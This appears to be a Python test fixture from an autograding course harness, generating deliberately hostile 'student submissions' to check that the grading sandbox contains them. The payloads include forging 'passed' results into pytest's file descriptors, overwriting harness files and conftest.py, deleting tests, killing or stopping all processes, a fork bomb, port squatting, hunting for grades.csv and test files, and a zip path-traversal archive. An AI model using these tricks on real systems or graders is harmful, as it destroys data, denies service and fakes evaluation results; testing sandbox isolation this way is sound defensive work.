"""Hostile submissions for stage 01, made from its reference solution."""

from __future__ import annotations

import zipfile
from pathlib import Path

from stages.desk.manifest import sources
from stages.harness.course import stage_folder

REFERENCE = sources(stage_folder(1))["server.py"]
ECHO = "        self.transport.write(data)\n"
MARK = "left-behind-by-a-submission"


def beginning(text: str) -> str:
    """Return the reference with `text` run before everything else."""
    return text + "\n" + REFERENCE


def handling(text: str, rest: str = "") -> str:
    """Return the reference with `text` in the place of the line that echoes the data."""
    lines = "".join(f"        {line}\n" for line in text.splitlines())
    assert ECHO in REFERENCE
    return rest + REFERENCE.replace(ECHO, lines)


# Yields the process ids of the parents: the supervisor, the one that has forked it, pytest
UPWARDS = """
import os, shutil, sys

def upwards(steps):
    pid = os.getppid()
    for _ in range(steps):
        if pid <= 1:
            return
        yield pid
        try:
            with open(f"/proc/{pid}/stat") as file:
                pid = int(file.read().rpartition(")")[2].split()[1])
        except OSError:
            return

def folders():
    for pid in upwards(3):
        try:
            with open(f"/proc/{pid}/cmdline") as file:
                args = file.read().split(chr(0))
            harness = {os.path.dirname(arg) for arg in args if arg.endswith("/supervisor.py")}
            yield from harness | {os.path.dirname(folder) for folder in harness}  # the stages are beside it
        except OSError:
            pass
"""

FORGE = """
import json
for folder in folders():
    for name in os.listdir(folder) + ["conftest.py"]:
        try:
            with open(os.path.join(folder, name), "w") as file:
                file.write("import os; os._exit(0)")
        except OSError:
            pass
for pid in upwards(3):
    for number in range(3, 40):
        for test in "test_what_a_client_sends_comes_back", "test_megabytes_come_back_in_order":
            name = f"stages/01-echo-server/test_checkpoint.py::{test}"
            line = json.dumps({"test": name, "outcome": "passed", "seconds": 0, "said": ""})
            try:
                with open(f"/proc/{pid}/fd/{number}", "w") as file:
                    file.write(line + chr(10))
            except (OSError, ValueError):
                pass
"""

DELETE = """
for folder in folders():
    for name in os.listdir(folder):
        if name[:2].isdecimal():
            shutil.rmtree(os.path.join(folder, name), ignore_errors=True)
"""

LEAVE = f"""
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(100)", "{MARK}"])
    os._exit(0)
"""

SQUAT = """
import os, socket, sys, time
port = int(sys.argv[sys.argv.index("--port") + 1])
listener = socket.create_server(("127.0.0.1", port))
if os.fork() == 0:
    os.setsid()
    time.sleep(100)
    os._exit(0)
"""

SINGLE: dict[str, str] = {
    "loop-at-import": beginning("while True:\n    pass"),
    "loop-in-a-handler": handling("while True:\n    pass"),
    "memory-hog": handling("hog = []\nwhile True:\n    hog.append(bytearray(1 << 24))"),
    # at most 128 processes, which sleep
    "fork-bomb": beginning("import os, time\nfor _ in range(7):\n    os.fork()\ntime.sleep(20)"),
    "exit-at-import": beginning("import os\nos._exit(0)"),
    "prints-without-end": beginning("while True:\n    print('x' * 10000)"),
    "patches-the-harness": handling("pass", UPWARDS + FORGE),
    "deletes-the-tests": handling("pass", UPWARDS + DELETE),
    "kills-pytest": handling("pass", UPWARDS + "for pid in reversed(list(upwards(3))):\n    os.kill(pid, 9)\n"),
    "opens-the-port-first": beginning(SQUAT),
    "syntax-error": REFERENCE + "\ndef (:\n",
}


def attacks(wanted: list[Path], outside: Path) -> dict[str, str]:
    """Return attacks that begin the reference: on the files `wanted`, on a folder `outside`, and on all that run."""
    read = f"""
import os, sys
def read(path):
    try:
        return open(path, "rb").read()
    except OSError:
        return b""
own = os.path.dirname(os.path.abspath(__file__))
files = {[str(path) for path in wanted]}
files += [os.path.join(parent, name) for parent, _, names in os.walk("/") for name in names
          if name in ("test_own.py", "test_checkpoint.py", "server.py", "grades.csv")
          and not parent.startswith((own, "/proc/", "/usr/", "/lib", sys.prefix, sys.base_prefix))
          and "-packages/" not in parent]
shown = [path for path in files if read(path)]
shown += [line for name in os.listdir("/proc") if name.isdecimal() and int(name) != os.getpid()
          for line in [read(f"/proc/{{name}}/cmdline")] if b"-m\\0pytest" in line or b"victim" in line]
shown += [name for name in os.environ if name.startswith(("PYTEST", "CHECKPOINT"))]
if shown:
    sys.exit(f"LEAK {{shown}}")
"""
    return {
        "reads-what-is-not-its-own": beginning(read),
        "overwrites-others": beginning(OVERWRITE.format(files=[str(path) for path in wanted], outside=str(outside))),
        "kills-all": beginning("import os, signal\ntry:\n    os.kill(-1, signal.SIGKILL)\nexcept OSError:\n    pass"),
        "stops-all": beginning(STOP),
        "talks-to-all-ports": beginning(TALK),
        "binds-thousands-of-ports": beginning(BIND),
        "nests-folders": beginning(NEST),
        "fills-what-all-share": beginning(FILL),
    }


OVERWRITE = """
import os
for path in {files} + [{outside!r} + "/here", "/etc/{mark}", __file__]:
    try:
        with open(path, "w") as file:
            file.write("LEAK")
    except OSError:
        pass
""".replace("{mark}", MARK)

STOP = """
import os, signal
for name in os.listdir("/proc"):
    if name.isdecimal() and int(name) != os.getpid():
        for number in signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL:
            try:
                os.kill(int(name), number)
            except OSError:
                pass
"""

TALK = """
import socket
with open("/proc/net/tcp") as file:
    ports = {int(line.split()[1].split(":")[1], 16) for line in list(file)[1:]}
for port in ports | set(range(20000, 32000)):
    with socket.socket() as one:
        one.settimeout(0.1)
        if one.connect_ex(("127.0.0.1", port)) == 0:
            one.sendall(b"LEAK FLUSHALL")
"""

BIND = """
import os, resource, socket, time
most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
if os.fork() == 0:
    taken = []
    for port in range(20000, 32000):
        try:
            taken.append(socket.create_server(("127.0.0.1", port)))
        except OSError:
            pass
    time.sleep(60)
    os._exit(0)
"""

NEST = """
import os
here = os.open(os.environ["TMPDIR"], os.O_RDONLY)
for _ in range(3000):
    try:
        os.mkdir("d", dir_fd=here)
    except FileExistsError:
        pass
    below = os.open("d", os.O_RDONLY, dir_fd=here)
    os.close(here)
    here = below
"""

LINK = """
import os, sys, threading, time
folder = sys.argv[sys.argv.index("--dir") + 1] if "--dir" in sys.argv else "."
def link():
    while not os.path.exists(folder + "/appendonly.aof"):  # it is there before the server listens
        time.sleep(0.001)
    while True:
        try:
            os.symlink("/proc/self/cwd/{name}", folder + "/link")  # what pytest sees there, from the folder it runs in
            os.replace(folder + "/link", folder + "/appendonly.aof")
        except OSError:
            pass
        time.sleep(0.01)
threading.Thread(target=link, daemon=True).start()
"""

FILL = f"""
import os
for folder in "/dev/shm", "/tmp", "/var/tmp":
    try:
        with open(f"{{folder}}/{MARK}-{{os.getpid()}}", "wb") as file:
            file.write(bytes(1 << 20))
    except OSError:
        pass
"""


def write_hostile(folder: Path) -> None:
    """Write the submissions that deserve few points or none."""
    for name, text in SINGLE.items():
        (folder / name).mkdir(parents=True)
        (folder / name / "server.py").write_text(text)
    for name, text in (("conftest.py", "import os\nos._exit(0)\n"), ("pytest.py", "raise SystemExit(0)\n")):
        (folder / "patches-the-harness" / name).write_text(text)
    edited = folder / "edits-the-tests" / "stages" / stage_folder(1).name
    edited.mkdir(parents=True)
    (edited / "test_checkpoint.py").write_text("def test_what_a_client_sends_comes_back(): pass\n")
    (edited.parent.parent / "server.py").write_text(handling("pass"))
    (edited.parent.parent / "test_checkpoint.py").write_text("def test_what_a_client_sends_comes_back(): pass\n")
    (folder / "empty").mkdir()
    (folder / "no-zip.zip").write_bytes(b"PK of another kind")
    (folder / "notes.txt").write_text("I was ill")
    with zipfile.ZipFile(folder / "climbs-out.zip", "w") as archive:
        archive.writestr("server.py", REFERENCE)
        archive.writestr("../climbed-out.py", REFERENCE)


def write_harmless(folder: Path) -> None:
    """Write submissions that deserve all points: a zip file of work/, and one that leaves a child process running."""
    folder.mkdir()
    with zipfile.ZipFile(folder / "zipped.zip", "w") as archive:
        archive.writestr("alice/work/server.py", REFERENCE)
        archive.writestr("__MACOSX/alice/work/._server.py", b"\0")
    (folder / "leaves-a-child").mkdir()
    (folder / "leaves-a-child" / "server.py").write_text(beginning(LEAVE))


# For stage 03: becomes a real Redis

PROXY = """
import asyncio, subprocess, sys

port = int(sys.argv[sys.argv.index("--port") + 1])
OPTIONS = ["--port", str(port), "--save", "", "--enable-debug-command", "yes", "--bind", "127.0.0.1"]
import os
os.chdir(os.environ.get("TMPDIR", "/tmp"))
os.execvp("redis-server", ["redis-server", *OPTIONS])
"""
